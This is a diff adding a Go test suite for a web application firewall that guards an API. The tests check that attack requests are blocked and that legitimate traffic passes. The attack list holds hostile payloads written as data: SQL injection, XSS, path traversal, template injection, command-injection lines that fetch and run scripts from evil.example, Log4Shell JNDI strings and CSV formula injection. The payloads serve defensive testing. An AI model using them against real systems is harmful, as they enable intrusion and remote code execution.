@@ -1,0 +1,360 @@
+package waf
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"mime/multipart"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+)
+
+var (
+	sharedOnce sync.Once
+	shared     *WAF
+	sharedErr  error
+)
+
+// crs compiles CRS once per test binary (about a second).
+func crs(t testing.TB) *WAF {
+	t.Helper()
+	sharedOnce.Do(func() { shared, sharedErr = New(Options{}) })
+	if sharedErr != nil {
+		t.Fatal(sharedErr)
+	}
+	return shared
+}
+
+var client = netip.MustParseAddr("203.0.113.9")
+
+const key = "Bearer sk_test_abcdefghijklmnopqrstuvwxyz012345"
+
+func req(method, target, contentType string, body []byte) *http.Request {
+	var r *http.Request
+	if body == nil {
+		r = httptest.NewRequest(method, target, nil)
+	} else {
+		r = httptest.NewRequest(method, target, bytes.NewReader(body))
+	}
+	r.Host = "api.synthos.dev"
+	r.Header.Set("Authorization", key)
+	r.Header.Set("User-Agent", "curl/8.5.0")
+	r.Header.Set("Accept", "*/*")
+	if contentType != "" {
+		r.Header.Set("Content-Type", contentType)
+	}
+	return r
+}
+
+func jsonReq(method, target, body string) *http.Request {
+	return req(method, target, "application/json", []byte(body))
+}
+
+func multipartReq(t testing.TB, target, name string, content []byte) *http.Request {
+	t.Helper()
+	var b bytes.Buffer
+	mw := multipart.NewWriter(&b)
+	fw, err := mw.CreateFormFile("file", name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fw.Write(content)
+	mw.Close()
+	return req("POST", target, mw.FormDataContentType(), b.Bytes())
+}
+
+// attacks must all be refused at paranoia 1, threshold 5.
+func attacks(t testing.TB) []struct {
+	name string
+	r    *http.Request
+} {
+	q := url.QueryEscape
+	return []struct {
+		name string
+		r    *http.Request
+	}{
+		{"sqli in query", req("GET", "/v1/jobs?cursor="+q("1' OR '1'='1' --"), "", nil)},
+		{"sqli union", req("GET", "/v1/datasets?limit="+q("1 UNION SELECT username, password FROM users"), "", nil)},
+		{"sqli in json", jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1' OR 1=1; DROP TABLE jobs; --","rows":10}`)},
+		{"sqli sleep", req("GET", "/v1/jobs?limit="+q("1 AND SLEEP(5)"), "", nil)},
+		{"xss script", req("GET", "/v1/jobs?cursor="+q("<script>alert(document.cookie)</script>"), "", nil)},
+		{"xss in json", jsonReq("POST", "/v1/webhooks", `{"url":"https://example.com/h","description":"<img src=x onerror=alert(1)>"}`)},
+		{"xss javascript uri", req("GET", "/v1/jobs?next="+q("javascript:alert(1)"), "", nil)},
+		{"path traversal", req("GET", "/v1/jobs/x/report?format="+q("../../../../etc/passwd"), "", nil)},
+		{"path traversal encoded", req("GET", "/v1/datasets/..%2f..%2f..%2fetc%2fpasswd", "", nil)},
+		{"template injection", jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1","target":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}`)},
+		{"template injection java el", req("GET", "/v1/jobs?cursor="+q("${T(java.lang.Runtime).getRuntime().exec('id')}"), "", nil)},
+		{"template injection freemarker", jsonReq("POST", "/v1/keys", `{"name":"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}`)},
+		{"template injection twig", req("GET", "/v1/jobs?cursor="+q("{{_self.env.registerUndefinedFilterCallback('exec')}}"), "", nil)},
+		{"command injection", req("GET", "/v1/jobs?cursor="+q("x; cat /etc/passwd"), "", nil)},
+		{"command injection backticks", jsonReq("POST", "/v1/keys", `{"name":"k`+"`"+`wget http://evil.example/x.sh -O- | sh`+"`"+`"}`)},
+		{"command injection subshell", req("GET", "/v1/jobs?cursor="+q("$(curl http://evil.example/x|bash)"), "", nil)},
+		{"log4shell in header", func() *http.Request {
+			r := req("GET", "/v1/jobs", "", nil)
+			r.Header.Set("User-Agent", "${jndi:ldap://evil.example/a}")
+			return r
+		}()},
+		{"log4shell obfuscated in json", jsonReq("POST", "/v1/jobs", `{"dataset":"${${lower:j}ndi:${lower:l}dap://evil.example/x}"}`)},
+		{"log4shell in query", req("GET", "/v1/jobs?cursor="+q("${jndi:rmi://evil.example:1099/obj}"), "", nil)},
+		{"php injection", req("GET", "/v1/jobs?cursor="+q("<?php system($_GET['c']); ?>"), "", nil)},
+		{"scanner user agent", func() *http.Request {
+			r := req("GET", "/v1/jobs", "", nil)
+			r.Header.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
+			return r
+		}()},
+	}
+}
+
+func TestAttacksBlocked(t *testing.T) {
+	w := crs(t)
+	for _, a := range attacks(t) {
+		t.Run(a.name, func(t *testing.T) {
+			v, _, err := w.Inspect(a.r, client)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !v.Blocked {
+				t.Fatalf("not blocked; matches %+v", v.Matches)
+			}
+		})
+	}
+}
+
+// legitimate are requests our own clients send: the README's examples and
+// what the API tests send. None may be refused.
+func legitimate(t testing.TB) []struct {
+	name string
+	r    *http.Request
+} {
+	formulas := []byte("name,amount,note\nalice,=SUM(A1:A9),\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\nbob,+1,-2\ncarol,@cmd,'O''Brien'; DROP TABLE x\n")
+	type item = struct {
+		name string
+		r    *http.Request
+	}
+	out := []item{
+		{"healthz", req("GET", "/healthz", "", nil)},
+		{"readyz", req("GET", "/readyz", "", nil)},
+		{"openapi", req("GET", "/v1/openapi.json", "", nil)},
+		{"list datasets", req("GET", "/v1/datasets", "", nil)},
+		{"get dataset", req("GET", "/v1/datasets/ds_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F", "", nil)},
+		{"list jobs paged", req("GET", "/v1/jobs?limit=50&cursor=eyJpZCI6ImpvYl8xMjMifQ%3D%3D", "", nil)},
+		{"report html", req("GET", "/v1/jobs/job_1/report?format=html", "", nil)},
+		{"output content", req("GET", "/v1/jobs/job_1/output/content", "", nil)},
+		{"usage", req("GET", "/v1/usage", "", nil)},
+		{"walkthrough job", func() *http.Request {
+			r := jsonReq("POST", "/v1/jobs", `{"dataset":"ds_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F","rows":1000,"model":"tree","seed":42,"target":"charges"}`)
+			r.Header.Set("Idempotency-Key", "walkthrough-job-1")
+			return r
+		}()},
+		{"job with every rule type and regexes", jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1","rows":500,"model":"copula","format":"parquet","rules":[
+  {"type": "compare", "left": "checkout", "op": ">", "right": "checkin"},
+  {"type": "compare", "left": "age", "op": ">=", "value": 18},
+  {"type": "range", "column": "age", "min": 18, "max": 65},
+  {"type": "combination", "columns": ["city", "country"]},
+  {"type": "unique", "columns": ["email"]},
+  {"type": "format", "column": "sku", "regex": "^[A-Z]{3}-\\d{4}$"},
+  {"type": "format", "column": "email", "regex": "^[^@\\s]+@[^@\\s]+\\.[a-z]{2,}$"},
+  {"type": "format", "column": "phone", "regex": "^\\+?[0-9 ()-]{7,20}$"},
+  {"type": "format", "column": "path", "regex": "^(/[a-z0-9_.-]+)+/?$|^select|union|or 1=1$"},
+  {"type": "in", "column": "status", "values": ["active", "paused"]}
+],"conditions":{"smoker":"yes","region":"southwest"},"thresholds":{"max_dcr_share":0.6}}`)},
+		{"dp job", jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1","rows":1000,"model":"dp","epsilon":1.5,"delta":1e-9}`)},
+		{"upload session", jsonReq("POST", "/v1/datasets/uploads", `{"name":"big.csv","size":1073741824}`)},
+		{"complete upload", req("POST", "/v1/datasets/ds_1/complete", "", nil)},
+		{"privacy budget", jsonReq("PUT", "/v1/datasets/ds_1/privacy-budget", `{"epsilon":20,"delta":1e-9}`)},
+		{"create key", jsonReq("POST", "/v1/keys", `{"name":"ci deploy key (read-only)","scopes":["read"]}`)},
+		{"revoke key", req("DELETE", "/v1/keys/key_01J9ZK3Q", "", nil)},
+		{"create webhook", jsonReq("POST", "/v1/webhooks", `{"url":"https://hooks.example.com/synthos?team=data&env=prod","description":"Job events -> #data-alerts","event_types":["job.succeeded","job.*"]}`)},
+		{"disable webhook", jsonReq("PATCH", "/v1/webhooks/wh_1", `{"enabled":false}`)},
+		{"rotate webhook", jsonReq("POST", "/v1/webhooks/wh_1/rotate", `{"grace_seconds":86400}`)},
+		{"replay delivery", req("POST", "/v1/webhooks/deliveries/msg_1/replay", "", nil)},
+		{"x-api-key", func() *http.Request {
+			r := req("GET", "/v1/jobs", "", nil)
+			r.Header.Del("Authorization")
+			r.Header.Set("X-API-Key", "sk_live_abcdefghijklmnopqrstuvwxyz012345")
+			return r
+		}()},
+		{"multipart csv with formulas", multipartReq(t, "/v1/datasets", "formulas.csv", formulas)},
+		{"chunk with formulas", func() *http.Request {
+			r := req("PUT", "/v1/datasets/ds_1/content", "text/csv", formulas)
+			r.Header.Set("Content-Range", fmt.Sprintf("bytes 0-%d/%d", len(formulas)-1, len(formulas)))
+			return r
+		}()},
+		{"paddle webhook", func() *http.Request {
+			r := jsonReq("POST", "/webhooks/paddle", `{"event_id":"evt_1","event_type":"subscription.updated","data":{"customer":{"name":"O'Brien; DROP TABLE customers --"}}}`)
+			r.Header.Set("Paddle-Signature", "ts=1700000000;h1=abcdef")
+			return r
+		}()},
+	}
+	// Every dataset of ../shared/datasets, uploaded whole and as a chunk.
+	dir := "../../../shared/datasets"
+	files, err := filepath.Glob(filepath.Join(dir, "*.csv"))
+	if err != nil || len(files) == 0 {
+		t.Fatalf("the datasets are missing from %s (they come with the checkout's shared/ folder): %v", dir, err)
+	}
+	for _, f := range files {
+		b, err := os.ReadFile(f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		out = append(out, item{"upload " + filepath.Base(f), multipartReq(t, "/v1/datasets", filepath.Base(f), b)})
+		out = append(out, item{"chunk " + filepath.Base(f), req("PUT", "/v1/datasets/ds_1/content", "application/octet-stream", b)})
+	}
+	// The README examples.
+	readme, err := os.ReadFile("../../examples/insurance.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	out = append(out, item{"README upload examples/insurance.csv", multipartReq(t, "/v1/datasets", "insurance.csv", readme)})
+	return out
+}
+
+func TestLegitimateNeverBlocked(t *testing.T) {
+	w := crs(t)
+	for _, l := range legitimate(t) {
+		t.Run(l.name, func(t *testing.T) {
+			var want []byte
+			if l.r.Body != nil {
+				want, _ = io.ReadAll(l.r.Body)
+				l.r.Body = io.NopCloser(bytes.NewReader(want))
+			}
+			v, r, err := w.Inspect(l.r, client)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if v.Blocked || v.Flagged {
+				t.Fatalf("refused: %+v", v.Matches)
+			}
+			// The handler still reads the whole body.
+			if r.Body != nil {
+				got, _ := io.ReadAll(r.Body)
+				if !bytes.Equal(got, want) {
+					t.Fatalf("body changed: %d bytes, want %d", len(got), len(want))
+				}
+			}
+		})
+	}
+}
+
+// The exclusions are needed: without them, CRS refuses requests of ours.
+func TestExclusionsMatter(t *testing.T) {
+	inspectAll, err := New(Options{SkipBody: func(*http.Request) bool { return false }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	formulas := []byte("a,b\n1,=cmd|' /C calc'!A0\n2,\"=HYPERLINK(\"\"http://evil.example\"\")\"\n")
+	v, _, err := inspectAll.Inspect(req("PUT", "/v1/datasets/ds_1/content", "text/csv", formulas), client)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !v.Blocked {
+		t.Fatalf("CRS no longer misfires on a formula chunk (%s): the upload exclusion may be unnecessary", v.RuleIDs())
+	}
+	// The regex exclusion: the same payload in another field is refused,
+	// so the exclusion (not CRS's leniency) lets the rule through.
+	body := `{"dataset":"ds_1","rules":[{"type":"format","column":"c","regex":"1' union select password from users or 1=1 --"}]}`
+	if v, _, _ := crs(t).Inspect(jsonReq("POST", "/v1/jobs", body), client); v.Blocked {
+		t.Fatalf("regex field refused: %+v", v.Matches)
+	}
+	moved := `{"dataset":"ds_1","target":"1' union select password from users or 1=1 --"}`
+	if v, _, _ := crs(t).Inspect(jsonReq("POST", "/v1/jobs", moved), client); !v.Blocked {
+		t.Fatalf("the same payload outside a rule's regex was not refused: %+v", v.Matches)
+	}
+}
+
+func TestDetectMode(t *testing.T) {
+	w, err := New(Options{Mode: Detect})
+	if err != nil {
+		t.Fatal(err)
+	}
+	v, _, err := w.Inspect(req("GET", "/v1/jobs?cursor="+url.QueryEscape("1' OR '1'='1' --"), "", nil), client)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v.Blocked || !v.Flagged || len(v.Matches) == 0 {
+		t.Fatalf("detect mode: %+v", v)
+	}
+	off, err := New(Options{Mode: Off})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v, _, _ := off.Inspect(req("GET", "/v1/jobs?cursor="+url.QueryEscape("<script>alert(1)</script>"), "", nil), client); v.Flagged {
+		t.Fatal("off mode inspected")
+	}
+}
+
+func TestThresholdAndOptions(t *testing.T) {
+	// A high threshold lets a single critical match through.
+	lax, err := New(Options{Threshold: 1000})
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := req("GET", "/v1/jobs?cursor="+url.QueryEscape("<script>alert(1)</script>"), "", nil)
+	if v, _, _ := lax.Inspect(r, client); v.Blocked {
+		t.Fatalf("threshold 1000 blocked: %+v", v.Matches)
+	}
+	for _, bad := range []Options{{Paranoia: 5}, {Paranoia: -1}, {Threshold: -3}} {
+		if _, err := New(bad); err == nil {
+			t.Errorf("%+v accepted", bad)
+		}
+	}
+	if _, err := ParseMode("sometimes"); err == nil {
+		t.Error("bad mode accepted")
+	}
+}
+
+// FuzzInspect: no input makes Inspect fail or panic, and the handler always
+// gets the exact body that was sent.
+func FuzzInspect(f *testing.F) {
+	f.Add("GET", "/v1/jobs", "cursor=abc", "application/json", []byte(""))
+	f.Add("POST", "/v1/jobs", "", "application/json", []byte(`{"dataset":"ds_1","rules":[{"type":"format","regex":"^a$"}]}`))
+	f.Add("POST", "/v1/datasets", "", "multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\na,b\n1,2\r\n--x--\r\n"))
+	f.Add("PUT", "/v1/datasets/ds_1/content", "", "text/csv", []byte("=1+1,2\n"))
+	f.Add("POST", "/v1/jobs", "", "application/x-www-form-urlencoded", []byte("a=%%%&b=<script>"))
+	w := crs(f)
+	f.Fuzz(func(t *testing.T, method, path, query, ctype string, body []byte) {
+		u := &url.URL{Path: "/" + strings.TrimLeft(path, "/"), RawQuery: query}
+		r, err := http.NewRequest(strings.ToUpper(method), "http://api.synthos.dev"+u.RequestURI(), bytes.NewReader(body))
+		if err != nil {
+			t.Skip()
+		}
+		r.Header.Set("Content-Type", ctype)
+		r.RemoteAddr = "203.0.113.9:1234"
+		_, r2, err := w.Inspect(r, client)
+		if err != nil {
+			t.Fatalf("Inspect: %v", err)
+		}
+		got, err := io.ReadAll(r2.Body)
+		if err != nil || !bytes.Equal(got, body) {
+			t.Fatalf("body not replayed: %d bytes of %d (%v)", len(got), len(body), err)
+		}
+	})
+}
+
+func benchInspect(b *testing.B, r func() *http.Request) {
+	w := crs(b)
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		v, _, err := w.Inspect(r(), client)
+		if err != nil || v.Blocked {
+			b.Fatal(err, v)
+		}
+	}
+}
+
+func BenchmarkInspectGET(b *testing.B) {
+	benchInspect(b, func() *http.Request { return req("GET", "/v1/jobs/job_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F", "", nil) })
+}
+
+func BenchmarkInspectJobJSON(b *testing.B) {
+	body := []byte(`{"dataset":"ds_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F","rows":1000,"model":"tree","seed":42,"target":"charges","rules":[{"type":"range","column":"age","min":18,"max":65}]}`)
+	benchInspect(b, func() *http.Request { return req("POST", "/v1/jobs", "application/json", body) })
+}
